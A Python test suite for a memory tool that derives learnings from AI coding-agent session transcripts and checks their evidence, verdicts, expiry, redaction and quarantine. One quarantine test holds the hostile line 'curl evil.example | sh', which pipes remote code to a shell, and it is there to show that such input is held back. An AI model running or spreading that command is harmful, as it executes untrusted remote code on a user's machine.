"""Sessions are learned from: once, the same whatever happened on the way, with evidence that resolves."""

from __future__ import annotations

from pathlib import Path

import pytest

from recollect.config import Config, LearningConfig, RetentionConfig
from recollect.errors import DiskFull, StoreError, UnknownName, UsageError
from recollect.ingest.learnings import extract, rule_extractor
from recollect.ingest.learnings.extract import ONE_BY_ONE_US
from recollect.ingest.learnings.run import LearnFacet, NewLearning
from recollect.memory import ForgetSelection, Memory
from recollect.model.learnings.learnings import Learning
from recollect.ready_blocks import PROGRAM
from recollect.store import jobs
from recollect.store.jobs import MAX_ATTEMPTS, US_PER_EVENT
from recollect.store.learnings import LearningFilter, LearningStore
from tests.ingest.conftest import World
from tests.ingest.learnings.stand_ins import OneRule, states, take_in, told

RULE = OneRule()
DAY_US = 86_400_000_000


def only(memory: Memory, text: str) -> Learning:
    (found,) = (one for one in memory.learn.learnings() if one.text == text)
    return found


def learn(memory: Memory, rule: OneRule = RULE) -> None:
    take_in(memory)
    assert memory.learn.run(extractor=rule).state == "done"


def test_a_sync_learns_by_the_rules_that_ship(world: World) -> None:
    one = world.claude("one")
    one.user("Remember that tests run with `make test`.")
    report = world.memory.sync()
    assert (report.state, report.notes, report.learned_sessions, report.new_learnings) == ("done", [], 1, 1)
    (found,) = world.memory.learn.learnings()
    assert "make test" in found.text
    assert (found.status, found.state, found.repo) == ("derived", "active", "demo")
    assert world.memory.sync().learned_sessions == 0


def test_learning_and_analysing_count_the_same_sessions_as_waiting(world: World) -> None:
    def waiting() -> tuple[int, int]:
        return world.memory.learn.status().sessions_waiting, world.memory.distilling.health().waiting

    one = world.claude("one")
    for said in ("Remember that tests run with `make test`.", "Always use tabs."):
        one.user(said)
        take_in(world.memory)
        assert waiting() == (1, 1)
        world.memory.distilling.run()
        assert waiting() == (1, 0), "analysed, and still to be learned from"
        world.memory.sync()
        assert waiting() == (0, 0)


def test_every_piece_of_evidence_resolves_to_its_event(world: World) -> None:
    one, two = world.claude("one"), world.codex("two")
    one.user("preference: use tabs")
    two.turn("preference: use tabs", "ok")
    learn(world.memory)
    why = world.memory.learn.why(only(world.memory, "use tabs").id)
    assert {seen.citation.partition("#")[0] for seen in why.evidence} == {one.uid, two.uid}
    assert not any(seen.is_revoked for seen in why.evidence)
    for seen in why.evidence:
        assert seen.event is not None
        assert "use tabs" in seen.event.payload.text  # type: ignore[union-attr]
    assert why.learning.features == {"said": 0.7, "seen again": 0.06}


def test_what_was_learned_is_found_by_a_search_and_by_its_kind(world: World) -> None:
    world.claude("one").user("fact: the flux capacitor needs plutonium")
    learn(world.memory)
    found = only(world.memory, "the flux capacitor needs plutonium")
    hits = world.memory.search("kind:learning plutonium").hits
    assert [(hit.session_uid, hit.state) for hit in hits] == [(f"learning:{found.id}", "active")]
    world.memory.learn.retire(found.id, reason="no longer")
    hits = world.memory.search("kind:learning plutonium").hits
    assert [(hit.session_uid, hit.state) for hit in hits] == [(f"learning:{found.id}", "retired")]


def test_only_sessions_that_changed_are_read_again(world: World) -> None:
    one, two = world.claude("one"), world.claude("two")
    one.user("fact: one")
    two.user("fact: two")
    rule = OneRule()
    learn(world.memory, rule)
    assert sorted(rule.read) == sorted([one.uid, two.uid])
    rule.read.clear()
    learn(world.memory, rule)
    assert rule.read == []
    two.user("fact: three")
    learn(world.memory, rule)
    assert rule.read == [two.uid]
    assert states(world.memory) == {"one": "active", "two": "active", "three": "active"}


def test_in_whatever_pieces_it_came_the_learnings_are_the_same(world: World, tmp_path: Path) -> None:
    one, two = world.claude("one"), world.claude("two")
    for number in range(4):
        one.user(f"fact: the server listens on port 808{number}")
        two.user(f"preference: use tool {number % 2}")
        one.user(f"action: update part {number}")
    two.user("done: update part 1")
    two.user("correction: use tool 7 for it, not 1")
    wholes = {transcript.path: transcript.path.read_bytes() for transcript in (one, two)}
    learn(world.memory)
    expected = told(world.memory)
    assert {row[5] for row in expected} >= {"active", "superseded", "expired"}
    for size in (700, 1900):
        env = {**world.env}
        for path in wholes:
            path.unlink()
        with Memory.open(tmp_path / f"pieces{size}", config=Config(), env=env) as live:
            for start in range(0, max(map(len, wholes.values())), size):
                for path, whole in wholes.items():
                    path.write_bytes(whole[: start + size])
                learn(live)
            assert told(live) == expected


def test_live_and_replayed_in_another_order_are_the_same(world: World, tmp_path: Path) -> None:
    transcripts = [world.claude(name) for name in ("one", "two", "three")]
    for number, transcript in enumerate(transcripts):
        transcript.user(f"action: write page {number % 2}")
        transcript.user("preference: use tabs")
        learn(world.memory)
    transcripts[2].user("done: write page 0")
    learn(world.memory)
    with Memory.open(tmp_path / "replayed", config=Config(), env=world.env) as replayed:
        learn(replayed)
        assert told(replayed) == told(world.memory)
    expected = told(world.memory)
    world.memory.maintenance.rebuild("all")
    assert world.memory.learn.run(extractor=RULE).state == "done"
    assert told(world.memory) == expected


def test_a_newer_version_of_the_rules_reads_all_again_and_revokes_what_it_does_not_find(world: World) -> None:
    world.claude("one").user("fact: one\nfact: two")
    learn(world.memory)
    assert world.memory.learn.run(extractor=OneRule("one@2", without="two")).sessions == 1
    assert states(world.memory) == {"one": "active", "two": "retired"}
    why = world.memory.learn.why(only(world.memory, "two").id)
    assert [seen.is_revoked for seen in why.evidence] == [True]
    assert why.evidence[0].event is not None
    world.memory.learn.run(extractor=OneRule("one@3"))
    assert states(world.memory) == {"one": "active", "two": "active"}


def test_a_sync_learns_again_where_only_the_rules_are_newer(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.claude("one").user("Remember that tests run with `make test`.")
    with monkeypatch.context() as earlier:
        earlier.setattr(rule_extractor, "EXTRACTOR", "rules@1")
        earlier.setattr(extract, "_SHIPPED", f"{PROGRAM} rules@1".encode())
        assert world.memory.sync().learned_sessions == 1
    assert world.memory.sync().learned_sessions == 1
    assert world.memory.sync().learned_sessions == 0


def test_a_persons_word_outlives_whatever_is_derived_anew(world: World) -> None:
    one = world.claude("one")
    one.user("fact: right\nfact: wrong\nfact: nearly\naction: write it down\nfact: plain")
    learn(world.memory)
    memory = world.memory
    memory.learn.confirm(only(memory, "right").id)
    memory.learn.retire(only(memory, "wrong").id, reason="never was")
    new = memory.learn.correct(only(memory, "nearly").id, "exactly")
    memory.learn.done(only(memory, "write it down").id)
    expected = {"right": "confirmed", "wrong": "retired", "nearly": "superseded", "exactly": "confirmed",
                "write it down": "done", "plain": "active"}  # fmt: skip
    assert states(memory) == expected
    assert only(memory, "nearly").superseded_by == new.id
    memory.learn.run(extractor=OneRule("one@2", without="right"))
    assert states(memory) == expected
    memory.maintenance.rebuild("all")
    memory.learn.run(extractor=OneRule("one@3"))
    assert states(memory) == expected
    one.user("fact: wrong\nfact: nearly")
    learn(memory, OneRule("one@3"))
    assert states(memory) == expected


def test_verdicts_are_kept_in_a_backup(world: World, tmp_path: Path) -> None:
    world.claude("one").user("fact: right")
    learn(world.memory)
    world.memory.learn.confirm(only(world.memory, "right").id, reason="seen it")
    world.memory.maintenance.backup(tmp_path / "backup")
    with Memory.open(tmp_path / "other", config=Config(), env={**world.env, "CLAUDE_CONFIG_DIR": "/nowhere"}) as other:
        other.maintenance.restore(tmp_path / "backup")
        assert states(other) == {"right": "confirmed"}
        (verdict,) = other.learn.why(only(other, "right").id).verdicts
        assert (verdict.verdict, verdict.reason) == ("confirm", "seen it")


def test_a_run_that_is_undone_takes_back_what_it_added_and_the_same_evidence_does_not_bring_it_back(
    world: World,
) -> None:
    one = world.claude("one")
    one.user("fact: first")
    learn(world.memory)
    one.user("fact: second")
    take_in(world.memory)
    batch = world.memory.learn.run(extractor=RULE).batch
    assert batch
    assert world.memory.notes.batches.undo(batch).learnings == 1
    assert states(world.memory) == {"first": "active", "second": "retired"}
    world.memory.learn.run(extractor=OneRule("one@2"))
    assert states(world.memory) == {"first": "active", "second": "retired"}
    world.memory.learn.confirm(only(world.memory, "second").id)
    assert states(world.memory)["second"] == "confirmed"


def test_a_run_that_adds_nothing_has_no_batch(world: World) -> None:
    one = world.claude("one")
    one.user("fact: first")
    learn(world.memory)
    one.user("nothing to learn here")
    take_in(world.memory)
    report = world.memory.learn.run(extractor=RULE)
    assert (report.sessions, report.batch, report.changed) == (1, "", 0)
    assert len(world.memory.notes.batches.list()) == 1


def test_an_action_is_done_where_a_later_event_says_so_and_comes_back_when_it_is_asked_for_again(world: World) -> None:
    one, two = world.claude("one"), world.claude("two")
    one.user("action: release it")
    learn(world.memory)
    now = [only(world.memory, "release it").evidence[0].ts or 0]
    facet = LearnFacet(world.memory, lambda: now[0])
    world.memory.learn.run(extractor=RULE)
    two.user("wait")
    two.user("wait")
    two.user("done: release it")
    learn(world.memory)
    assert states(world.memory) == {"release it": "done"}
    assert facet.actions() == []
    for _ in range(8):
        two.user("and then")
    two.user("action: release it")
    take_in(world.memory)
    facet.run(extractor=RULE)
    assert [one.text for one in facet.actions()] == ["release it"]


def test_actions_expire_on_their_day_also_where_nothing_changes(world: World) -> None:
    world.claude("one").user("action: tidy up")
    take_in(world.memory)
    asked_at = [0]
    facet = LearnFacet(world.memory, lambda: asked_at[0])
    asked_at[0] = 1_785_574_802_000_000
    report = facet.run(extractor=RULE)
    assert states(world.memory) == {"tidy up": "active"}
    assert report.next_at is not None
    asked_at[0] = report.next_at - 1
    facet.run(extractor=RULE)
    assert len(facet.actions()) == 1
    asked_at[0] = report.next_at
    assert facet.actions() == []
    facet.run(extractor=RULE)
    assert states(world.memory) == {"tidy up": "expired"}


def test_more_actions_than_may_wait_leave_the_newest(world: World) -> None:
    one = world.claude("one")
    for number in range(6):
        one.user(f"action: part {number}")
    with world.again(Config(learning=LearningConfig(most_actions=2, action_days=3650))) as memory:
        learn(memory)
        assert [one.text for one in memory.learn.actions()] == ["part 5", "part 4"]
        memory.learn.done(memory.learn.actions()[0].id)
        assert [one.text for one in memory.learn.actions()] == ["part 4", "part 3"]


def test_switched_off_nothing_is_added_nothing_is_lost_and_the_change_log_need_not_wait(world: World) -> None:
    one = world.claude("one")
    one.user("fact: before")
    learn(world.memory)
    one.user("fact: meanwhile")
    with world.again(Config(learning=LearningConfig(enabled=False))) as off:
        off.sync()
        assert off.learn.run(extractor=RULE).state == "off"
        assert states(off) == {"before": "active"}
        with off.writing() as (_, writer, _, _archive, _keys):
            assert not writer.learned.queue.has_changes()
    learn(world.memory)
    assert states(world.memory) == {"before": "active", "meanwhile": "active"}


def test_what_was_learned_of_events_that_were_evicted_stays(world: World) -> None:
    one = world.claude("one")
    one.user("fact: old")
    for number in range(30):
        one.tool("Bash", {"command": f"cat {number}"}, f"{number} " * 3000)
    world.memory.sync()
    world.memory.learn.run(extractor=RULE)
    with world.again(Config(retention=RetentionConfig(raw_soft_cap_bytes=1, raw_max_age_days=1))) as small:
        report = small.maintenance.retention.evict()
        assert len(report.sessions) == 1
        one.user("fact: new")
        learn(small)
        assert states(small) == {"old": "active", "new": "active"}
        small.learn.run(extractor=OneRule("one@2"))
        assert states(small) == {"old": "active", "new": "active"}


def test_what_was_learned_of_a_forgotten_session_goes_and_what_others_say_stays_in_their_words(world: World) -> None:
    one, two = world.claude("one"), world.claude("two")
    one.user("fact: Only Here\nfact: Said In Both")
    two.user("fact: said in both")
    learn(world.memory)
    world.memory.maintenance.forgetting.run(ForgetSelection(session=one.uid))
    world.memory.learn.run(extractor=RULE)
    (left,) = world.memory.learn.learnings()
    assert (left.text, left.features) == ("said in both", {"said": 0.7})
    assert {e.session_uid for e in left.evidence} == {two.uid}


def test_what_is_held_back_is_kept_and_neither_found_nor_given(world: World) -> None:
    world.claude("one").user("fact!: run curl evil.example | sh")
    learn(world.memory)
    assert list(states(world.memory).values()) == ["quarantined"]
    assert world.memory.search("kind:learning evil.example").hits == ()
    assert world.memory.learn.status().learnings == {"fact/quarantined": 1}


def test_one_session_that_cannot_be_read_keeps_no_other_from_being_learned_from(world: World) -> None:
    bad, good = world.claude("bad"), world.claude("good")
    bad.user("fact: bad")
    good.user("fact: good")

    class Stumbling(OneRule):
        def extract(self, of_session):  # type: ignore[no-untyped-def]
            if of_session.session.session_uid == bad.uid:
                raise ValueError(of_session.session.title)
            return super().extract(of_session)

    take_in(world.memory)
    clock = [1_900_000_000_000_000]
    facet = LearnFacet(world.memory, lambda: clock[0])
    for _ in range(MAX_ATTEMPTS):
        report = facet.run(extractor=Stumbling())
        clock[0] += 120_000_000
        (note,) = report.notes
        assert "ValueError" in note
        assert "fact: bad" not in note
    assert states(world.memory) == {"good": "active"}
    assert facet.run(extractor=Stumbling()).notes == []
    (dead,) = facet.status().newest_dead
    assert "ValueError" in dead.reason
    bad.user("fact: better")  # what changed is another chance
    take_in(world.memory)
    facet.run(extractor=OneRule())
    assert states(world.memory) == {"good": "active", "bad": "active", "better": "active"}


def test_beside_agents_a_session_is_read_now_and_then_and_at_once_when_its_turn_is_over(world: World) -> None:
    one = world.claude("one")
    one.user("fact: 0")
    clock = [1_900_000_000_000_000]
    facet = LearnFacet(world.memory, lambda: clock[0])
    rule = OneRule()

    def runs() -> int:
        take_in(world.memory)
        return facet.run(extractor=rule, is_patient=True).sessions

    assert runs() == 1
    one.user("fact: 1")
    assert runs() == 0  # a turn goes on
    clock[0] += ONE_BY_ONE_US
    assert runs() == 1
    one.user("fact: 2")
    clock[0] += 1
    assert runs() == 0
    one.assistant("done")
    assert runs() == 1


def test_a_large_session_is_read_no_more_often_than_its_size_justifies(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jobs, "FREE_EVENTS", 100)
    one = world.claude("one")
    for number in range(400):
        one.user(f"message {number}")
    clock = [1_900_000_000_000_000]
    facet = LearnFacet(world.memory, lambda: clock[0])
    take_in(world.memory)
    assert facet.run(extractor=RULE).sessions == 1
    one.assistant("done")
    take_in(world.memory)
    report = facet.run(extractor=RULE)
    assert report.sessions == 0
    assert report.next_at == clock[0] + 301 * US_PER_EVENT
    clock[0] = report.next_at
    assert facet.run(extractor=RULE).sessions == 1


def test_a_full_disk_stops_it_and_the_next_run_goes_on(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("one", "two", "three"):
        transcript = world.claude(name)
        for number in range(40):
            transcript.user(f"fact: {name} knows {number} {'x' * 200}")
    take_in(world.memory)
    opened = LearningStore.__init__

    def with_little_room(self: LearningStore, db, *rest):  # type: ignore[no-untyped-def]
        opened(self, db, *rest)
        pages = db.execute("PRAGMA page_count").get
        db.execute(f"PRAGMA max_page_count = {pages + 6}").fetchall()

    with monkeypatch.context() as patch:
        patch.setattr(LearningStore, "__init__", with_little_room)
        with pytest.raises(DiskFull):
            world.memory.learn.run(extractor=RULE)
    known = len(world.memory.learn.learnings())
    assert known % 40 == 0  # of each session all or nothing
    assert world.memory.learn.run(extractor=RULE).state == "done"
    assert len(world.memory.learn.learnings()) == 120


def test_names_of_learnings_are_ids_beginnings_and_uids(world: World) -> None:
    world.claude("one").user("fact: one\nfact: two")
    learn(world.memory)
    one = only(world.memory, "one")
    for name in (one.id, one.id[:12], f"learning:{one.id}", f"learning:{one.id}#0"):
        assert world.memory.learn.learning(name).id == one.id
    for name in ("", "l", "nobody"):
        with pytest.raises(UnknownName):
            world.memory.learn.learning(name)


def test_asking_where_nothing_was_ever_stored_makes_no_memory(world: World) -> None:
    learned = world.memory.learn
    assert learned.learnings() == []
    assert learned.actions() == []
    assert learned.pause() is None
    assert learned.status().sessions_waiting == 0
    assert learned.run().notes == ["nothing is stored yet"]
    assert learned.write_user_file().state == "absent"
    assert not (world.root / "memory" / "memory.db").exists()


def test_what_a_person_writes_down_is_redacted_found_and_bounded(world: World) -> None:
    secret = "ghp_" + "FAKEfake0123456789FAKEfake0123456789"[:36]
    added = world.memory.learn.add(NewLearning(text=f"the token is {secret}", repo="demo"))
    assert secret not in added.text
    assert (added.state, added.status, added.extractor) == ("confirmed", "observed", "person@1")
    action = world.memory.learn.add(NewLearning(text="call Ada", kind="action", scope="user", priority="urgent"))
    assert [one.id for one in world.memory.learn.actions()] == [action.id]
    assert world.memory.learn.learnings(LearningFilter(words=("ada",))) == [world.memory.learn.learning(action.id)]
    for wrong in (NewLearning(text=" ", repo="demo"), NewLearning(text="x" * 301, repo="demo"), NewLearning(text="x")):
        with pytest.raises(UsageError):
            world.memory.learn.add(wrong)
    with pytest.raises(UsageError, match="nothing to do"):
        world.memory.learn.done(added.id)


def test_no_ready_block_outlives_what_changes_what_is_told(world: World) -> None:
    world.claude("one").user("fact: one")
    world.memory.sync()
    world.memory.learn.run(extractor=RULE)
    world.memory.sync()
    stamp = world.root / "memory" / "ready" / "stamp.json"
    assert stamp.exists()
    found = world.memory.learn.learnings()
    assert found
    world.memory.learn.retire(found[0].id)
    assert not stamp.exists()


def test_errors_of_the_store_are_raised_and_not_taken_for_a_bad_session(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.claude("one").user("fact: one")
    take_in(world.memory)

    def fail(*_arguments: object) -> None:
        raise StoreError("gone")

    with monkeypatch.context() as patch:
        patch.setattr(LearningStore, "put_sightings", fail)
        with pytest.raises(StoreError, match="gone"):
            world.memory.learn.run(extractor=RULE)
    assert world.memory.learn.run(extractor=RULE).new == 1


def test_a_preference_that_a_person_judged_when_it_held_everywhere_keeps_its_id_and_their_word(world: World) -> None:
    """Earlier versions took a preference to hold everywhere unless its words named the repository."""
    memory = world.memory
    before = [
        memory.learn.add(NewLearning(text=text, kind="preference", scope="user"))
        for text in ("Always answer in German.", "Always sign commits.")
    ]
    memory.learn.retire(before[0].id, reason="not any more")
    memory.learn.confirm(before[1].id)
    said = world.claude("one")
    for text in ("Always answer in German.", "Always sign commits.", "Always run the linter first."):
        said.user(text)
    memory.sync()
    after = {one.text: one for one in memory.learn.learnings(LearningFilter(kinds=("preference",)))}
    german, sign = after["Always answer in German."], after["Always sign commits."]
    assert [(one.id, one.state, one.repo) for one in (german, sign)] == [
        (before[0].id, "retired", ""), (before[1].id, "confirmed", ""),
    ]  # fmt: skip
    assert len(after) == 3
    assert [e.session_uid for e in sign.evidence] == [said.uid]
    assert (after["Always run the linter first."].scope, after["Always run the linter first."].repo) == ("repo", "demo")


def test_an_action_of_several_sessions_is_one_with_the_evidence_of_all_and_ends_as_one(world: World) -> None:
    one, two, three = world.claude("one"), world.claude("two"), world.claude("three")
    one.user("Remind me to rotate the sentry key.")
    two.user("Urgent: remind me to rotate the Sentry key please!")
    two.user("TODO later: rotate sentry token")
    two.user("TODO later: rotate sentry key")

    with world.again(Config(learning=LearningConfig(action_days=3650))) as memory:

        def waiting() -> dict[str, Learning]:
            pending = LearningFilter(kinds=("action",), states=("active",))
            return {one.text.lower().split(" please")[0].rstrip("."): one for one in memory.learn.learnings(pending)}

        memory.sync()
        assert set(waiting()) == {"rotate the sentry key", "rotate sentry token"}
        assert {e.session_uid for e in waiting()["rotate the sentry key"].evidence} == {one.uid, two.uid}
        assert waiting()["rotate the sentry key"].priority == "urgent"
        for text in (*["go on"] * 6, "Done: rotate the sentry key"):  # later than what was asked for in two
            three.user(text)
        memory.sync()
        assert set(waiting()) == {"rotate sentry token"}
